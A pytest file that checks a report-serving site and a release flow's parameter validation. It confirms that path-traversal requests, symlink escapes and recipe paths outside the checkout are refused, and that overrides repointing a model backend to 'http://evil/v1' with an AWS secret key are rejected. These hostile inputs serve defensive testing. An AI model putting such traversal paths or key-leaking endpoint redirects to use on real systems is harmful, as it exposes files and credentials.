"""Failed-gate reports a browser can open, and deployment parameters refused at submission:
the kept-reports site (`synthfactory server` runs it beside the UI), the links runs make to
it, and the release flow's parameter schema as the Prefect server enforces it."""

from __future__ import annotations

import base64
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from synthfactory.daemons import free_ports
from synthfactory.release.links import KEPT_PER_DATASET, REPORTS_URL_VAR, browser_link, keep_failed_report
from synthfactory.report_site import ReportSite


def fetch(url: str, auth: str | None = None) -> tuple[int, bytes]:
    request = urllib.request.Request(url)
    if auth:
        request.add_header("Authorization", "Basic " + base64.b64encode(auth.encode()).decode())
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


@pytest.fixture
def site(tmp_path):
    root = tmp_path / "reports"
    (root / "shapes" / "run-1" / "validation").mkdir(parents=True)
    (root / "shapes" / "run-1" / "validation" / "index.html").write_text("<h1>Data Docs</h1>")
    (tmp_path / "secret.txt").write_text("not a report")
    (root / "shapes" / "escape.txt").symlink_to(tmp_path / "secret.txt")
    (port,) = free_ports(1)
    running = ReportSite(root, "127.0.0.1", port).start()
    yield f"http://127.0.0.1:{port}", running
    running.stop()


def test_the_site_serves_report_files_and_nothing_else(site):
    base, _ = site
    assert fetch(f"{base}/shapes/run-1/validation/index.html") == (200, b"<h1>Data Docs</h1>")
    assert fetch(f"{base}/shapes/run-1/validation/")[0] == 200  # a folder's index.html
    for path in ("/shapes/", "/", "/shapes/escape.txt", "/../secret.txt", "/%2e%2e/secret.txt", "/shapes/run-2/x.html"):
        status, body = fetch(base + path)
        assert status == 404 and b"not a report" not in body, path


def test_the_site_asks_for_the_servers_basic_auth_when_it_has_one(tmp_path):
    (tmp_path / "a.html").write_text("report")
    (port,) = free_ports(1)
    running = ReportSite(tmp_path, "127.0.0.1", port, auth_string="admin:s3cret").start()
    try:
        assert fetch(f"http://127.0.0.1:{port}/a.html")[0] == 401
        assert fetch(f"http://127.0.0.1:{port}/a.html", auth="admin:wrong")[0] == 401
        assert fetch(f"http://127.0.0.1:{port}/a.html", auth="admin:s3cret") == (200, b"report")
    finally:
        running.stop()


def _stage(tmp_path: Path) -> Path:
    stage = tmp_path / "stage"
    for folder in ("report", "validation"):
        (stage / folder).mkdir(parents=True)
        (stage / folder / "index.html").write_text(folder)
    (stage / "manifest.parquet").write_bytes(b"not kept")
    return stage


def test_a_failed_gate_keeps_its_report_and_data_docs_and_links_them(tmp_path, monkeypatch):
    monkeypatch.setenv("SYNTHFACTORY_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv(REPORTS_URL_VAR, raising=False)
    kept = keep_failed_report(_stage(tmp_path), "shapes", "0b6e-run")

    assert sorted(p.name for p in kept.iterdir()) == ["report", "validation"]
    assert browser_link(kept / "validation" / "index.html") == (kept / "validation" / "index.html").as_uri()
    monkeypatch.setenv(REPORTS_URL_VAR, "http://ui-host:4201/")
    assert browser_link(kept / "validation" / "index.html") == "http://ui-host:4201/shapes/0b6e-run/validation/index.html"
    assert browser_link(tmp_path / "elsewhere.html").startswith("file://")  # not under the served folder


def test_kept_reports_are_capped_per_dataset(tmp_path, monkeypatch):
    monkeypatch.setenv("SYNTHFACTORY_DATA_DIR", str(tmp_path / "data"))
    stage = _stage(tmp_path)
    for run in range(KEPT_PER_DATASET + 3):
        keep_failed_report(stage, "shapes", f"run-{run:02d}")
    kept = sorted(p.name for p in (tmp_path / "data" / "reports" / "shapes").iterdir())
    assert len(kept) == KEPT_PER_DATASET and kept[-1] == f"run-{KEPT_PER_DATASET + 2:02d}"


@pytest.mark.parametrize(("parameters", "field"), [
    ({"recipe_path": "../../etc/passwd.yaml"}, "recipe_path"),
    ({"recipe_path": "/etc/shapes.yaml"}, "recipe_path"),
    ({"recipe_path": "recipes/shapes.yaml", "samples": 0}, "samples"),
    ({"recipe_path": "recipes/shapes.yaml", "workers": 100_000}, "workers"),
    ({"recipe_path": "recipes/shapes.yaml", "overrides": ["shard_size 100"]}, "overrides[0]"),
    ({"recipe_path": "recipes/shapes.yaml", "dask_address": "10.0.0.5:8786"}, "dask_address"),
])
def test_the_deployment_schema_refuses_bad_parameters_at_submission(parameters, field):
    """What the Prefect server runs on a deployment run's parameters before creating it."""
    from prefect.utilities.callables import parameter_schema
    from prefect.utilities.schema_tools import ValidationError, validate

    from flows.release import release_flow

    schema = parameter_schema(release_flow).model_dump_for_openapi()
    with pytest.raises(ValidationError, match=f"field '{field.replace('[', '.').replace(']', '.')}"):
        validate(parameters, schema, raise_on_error=True, preprocess=True, ignore_required=False)
    good = {"recipe_path": "recipes/shapes.yaml", "samples": 200, "overrides": ["shard_size=100"], "workers": 2}
    validate(good, schema, raise_on_error=True, preprocess=True, ignore_required=False)


def test_a_deployment_run_reads_recipes_inside_its_checkout_only(monkeypatch, repo_root):
    from flows.release import _confined
    from synthfactory.recipe import RecipeError

    monkeypatch.chdir(repo_root)
    assert _confined("/etc/passwd") == "/etc/passwd"  # `synthfactory run`: the user's own files
    monkeypatch.setenv("PREFECT__RUNTIME__DEPLOYMENT__ID", "8b4e2c7a-0000-4000-8000-000000000001")
    assert _confined("recipes/shapes.yaml") == "recipes/shapes.yaml"
    for outside in ("/etc/passwd", "../secrets.yaml", "recipes/../../x.yaml"):
        with pytest.raises(RecipeError, match="inside its checkout only"):
            _confined(outside)
    # pointed at another URL, the worker would send it the key the block names
    for endpoint in ("generator.params.backend={kind: openai, base_url: 'http://evil/v1', model: m, api_key_env: AWS_SECRET_ACCESS_KEY}",
                     "generator.params.captions.params.backend.base_url=http://evil/v1"):
        with pytest.raises(RecipeError, match="cannot change where a model is served"):
            _confined("recipes/synclr.yaml", [endpoint])
    assert _confined("recipes/shapes.yaml", ["shard_size=100"]) == "recipes/shapes.yaml"
